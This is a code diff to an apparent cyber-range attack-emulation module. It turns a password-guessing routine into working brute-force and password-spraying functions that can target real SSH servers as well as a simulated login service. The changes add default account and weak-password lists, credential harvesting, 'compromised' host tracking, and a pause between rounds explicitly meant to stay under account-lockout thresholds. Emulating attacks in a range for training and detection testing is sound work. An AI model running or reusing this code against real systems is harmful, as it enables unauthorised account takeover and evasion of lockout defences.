@@ -1,68 +1,43 @@
-"""Credential access: T1110.001 password guessing against a login service, over real kernel
-TCP connections whose every segment is counted with TCP_INFO (``tcpi_segs_out``).
+"""Credential access: T1110.001 password guessing and T1110.003 password spraying against a
+login service (the twin's line-based ``login`` dialogue or real SSH), over real kernel TCP
+connections whose every segment is counted with TCP_INFO (``tcpi_segs_out``).
 """
 from __future__ import annotations
 
 import time
 
 from cyberrange.attack.spec import Param, Technique
-from cyberrange.attack.techniques.common import Result, login_attempt
+from cyberrange.attack.techniques.common import (Result, login_attempt, parse_services,
+                                                 ssh_session)
+
+PROTOCOLS = ("login", "ssh")
+DEAD = ("refused", "timeout", "unreachable")            # the service cannot be reached
+NOT_SERVICE = ("not-login", "not-ssh", "no-password-auth")  # reached, but no guessing possible
 
 
-def brute_force(targets: list[str], params: dict) -> Result:
-    res = Result(start=time.time())
-    ports = [int(p) for p in params.get("ports", [22, 23, 2222])]
-    users = [str(u) for u in params.get("usernames", ["root", "admin"])]
-    passwords = [str(p) for p in params.get("passwords", ["password", "123456", "admin"])]
-    pause = float(params.get("pause", 0.05))
-    stop_on_success = bool(params.get("stop_on_success", True))
-    connect_timeout = float(params.get("connect_timeout", 2.5))  # between SYN RTOs 1 s and 3 s
-    io_timeout = float(params.get("io_timeout", 5.0))
+def attempt(protocol: str, ip: str, port: int, user: str, password: str,
+            connect_timeout: float, io_timeout: float) -> tuple[str, dict]:
+    """One guess on its own connection: (status, flow); status ok | bad | one of DEAD |
+    one of NOT_SERVICE | error."""
+    if protocol == "ssh":
+        status, fl, _info = ssh_session(ip, port, user, password, (), connect_timeout, io_timeout)
+        return status, fl
+    return login_attempt(ip, port, user, password, connect_timeout, io_timeout)
 
-    services: list[tuple[str, int]] = []
-    for t in targets:
-        t = str(t)
-        if ":" in t:
-            ip, port = t.rsplit(":", 1)
-            if int(port) in ports:
-                services.append((ip, int(port)))
-            else:
-                res.log.append(f"{t}: port not in params.ports {ports}; skipped")
-        else:
-            services.extend((t, p) for p in ports)
-    services = list(dict.fromkeys(services))
 
-    creds, unreachable, attempts = [], 0, 0
-    first = True
-    for ip, port in services:
-        dead = False
-        for user in users:
-            if dead:
-                break
-            for pw in passwords:
-                if not first and pause > 0:
-                    time.sleep(pause)
-                first = False
-                status, fl = login_attempt(ip, port, user, pw, connect_timeout, io_timeout)
-                attempts += 1
-                res.flows.append(fl)
-                if status == "ok":
-                    creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
-                    if stop_on_success:
-                        break
-                elif status in ("refused", "timeout", "unreachable", "not-login"):
-                    res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
-                                   f"no further guesses at this service")
-                    if status != "not-login":
-                        unreachable += 1
-                    dead = True
-                    break
-    res.log.append(f"{attempts} attempts at {len(services)} services, {len(creds)} credentials")
+def _protocol(params: dict) -> str:
+    protocol = str(params.get("protocol", "login"))
+    if protocol not in PROTOCOLS:
+        raise ValueError(f"protocol must be one of {', '.join(PROTOCOLS)} (got {protocol!r})")
+    return protocol
+
+
+def _finish(res: Result, services, creds, dead: set) -> Result:
     res.facts = {"credentials": creds,
                  "compromised": list(dict.fromkeys(c["target"].rsplit(":", 1)[0] for c in creds))}
     if creds:
         res.outcome = "succeeded"
-    elif services and unreachable == len(services):
+    elif services and len(dead) == len(services):
         res.outcome = "blocked"
     else:
         res.outcome = "failed"
@@ -70,8 +45,102 @@ def brute_force(targets: list[str], params: dict) -> Result:
     return res
 
 
-# --------------------------------------------------------------------------- dispatch
+def brute_force(targets: list[str], params: dict) -> Result:
+    res = Result(start=time.time())
+    protocol = _protocol(params)
+    ports = [int(p) for p in params.get("ports", [22, 23, 2222])]
+    users = [str(u) for u in params.get("usernames", ["root", "admin"])]
+    passwords = [str(p) for p in params.get("passwords", ["password", "123456", "admin"])]
+    pause = float(params.get("pause", 0.05))
+    stop_on_success = bool(params.get("stop_on_success", True))
+    connect_timeout = float(params.get("connect_timeout", 2.5))  # between SYN RTOs 1 s and 3 s
+    io_timeout = float(params.get("io_timeout", 5.0))
+    services = parse_services(targets, ports, res.log)
 
+    creds, dead, attempts = [], set(), 0
+    first = True
+    for ip, port in services:
+        stop = False
+        for user in users:
+            if stop:
+                break
+            for pw in passwords:
+                if not first and pause > 0:
+                    time.sleep(pause)
+                first = False
+                status, fl = attempt(protocol, ip, port, user, pw, connect_timeout, io_timeout)
+                attempts += 1
+                res.flows.append(fl)
+                if status == "ok":
+                    creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
+                    if stop_on_success:
+                        break
+                elif status in DEAD or status in NOT_SERVICE:
+                    res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
+                                   f"no further guesses at this service")
+                    if status in DEAD:
+                        dead.add((ip, port))
+                    stop = True
+                    break
+    res.log.append(f"{attempts} {protocol} attempts at {len(services)} services, "
+                   f"{len(creds)} credentials")
+    return _finish(res, services, creds, dead)
+
+
+def password_spray(targets: list[str], params: dict) -> Result:
+    """Few passwords, many accounts: round r tries password r for every user at every service,
+    then waits ``round_pause`` (keep it above the lockout observation window)."""
+    res = Result(start=time.time())
+    protocol = _protocol(params)
+    ports = [int(p) for p in params.get("ports", [22])]
+    users = [str(u) for u in params.get("usernames", ["root", "admin", "operator", "backup"])]
+    passwords = [str(p) for p in params.get("passwords", ["Winter2024!"])]
+    pause = float(params.get("pause", 0.05))
+    round_pause = float(params.get("round_pause", 30.0))
+    connect_timeout = float(params.get("connect_timeout", 2.5))
+    io_timeout = float(params.get("io_timeout", 5.0))
+    services = parse_services(targets, ports, res.log)
+
+    creds, dead, skip, done, attempts = [], set(), set(), set(), 0
+    first = True
+    for r, pw in enumerate(passwords):
+        if r and round_pause > 0 and len(skip) < len(services):
+            time.sleep(round_pause)
+        for ip, port in services:
+            if (ip, port) in skip:
+                continue
+            for user in users:
+                if (ip, port, user) in done:
+                    continue            # this account is already ours
+                if not first and pause > 0:
+                    time.sleep(pause)
+                first = False
+                status, fl = attempt(protocol, ip, port, user, pw, connect_timeout, io_timeout)
+                attempts += 1
+                res.flows.append(fl)
+                if status == "ok":
+                    creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
+                    done.add((ip, port, user))
+                elif status in DEAD or status in NOT_SERVICE:
+                    res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
+                                   f"left out of the spray")
+                    skip.add((ip, port))
+                    if status in DEAD:
+                        dead.add((ip, port))
+                    break
+        res.log.append(f"round {r + 1} ({pw!r}): {len(creds)} credentials so far")
+    res.log.append(f"{attempts} {protocol} attempts at {len(services)} services")
+    return _finish(res, services, creds, dead)
+
+
+_COMMON = {
+    "protocol": Param(str, "login", "login: the twin's line-based login dialogue; ssh: real SSH "
+                                    "(password authentication, paramiko)"),
+    "pause": Param((int, float), 0.05, "seconds between attempts"),
+    "connect_timeout": Param((int, float), 2.5, "seconds to wait for a connection (between the "
+                                                "kernel's 1 s and 3 s SYN retransmissions)"),
+    "io_timeout": Param((int, float), 5.0, "seconds to wait for each answer of the service"),
+}
 
 SPECS = [
     Technique(
@@ -81,12 +150,27 @@ SPECS = [
             "ports": Param(list, [22, 23, 2222], "ports taken as login services from ip:port targets"),
             "usernames": Param(list, ["root", "admin"], "user names to try"),
             "passwords": Param(list, ["password", "123456", "admin"], "passwords to try, in order"),
-            "pause": Param((int, float), 0.05, "seconds between attempts"),
             "stop_on_success": Param(bool, True, "stop guessing an account once its password is found"),
+            **_COMMON,
+        },
+        produces=("credentials", "compromised"),
+        target_kind="service",
+    ),
+    Technique(
+        "T1110.003", "Brute Force: Password Spraying", "credential-access",
+        {
+            "ports": Param(list, [22], "ports taken as login services (ip:port targets keep "
+                                       "theirs when listed here)"),
+            "usernames": Param(list, ["root", "admin", "operator", "backup"],
+                               "accounts to spray, at every service"),
+            "passwords": Param(list, ["Winter2024!"], "one password per round (few rounds)"),
+            "round_pause": Param((int, float), 30.0, "seconds between rounds, to stay under the "
+                                                     "lockout threshold"),
+            **_COMMON,
         },
         produces=("credentials", "compromised"),
         target_kind="service",
     ),
 ]
 
-FUNCS = {"T1110.001": brute_force}
+FUNCS = {"T1110.001": brute_force, "T1110.003": password_spray}
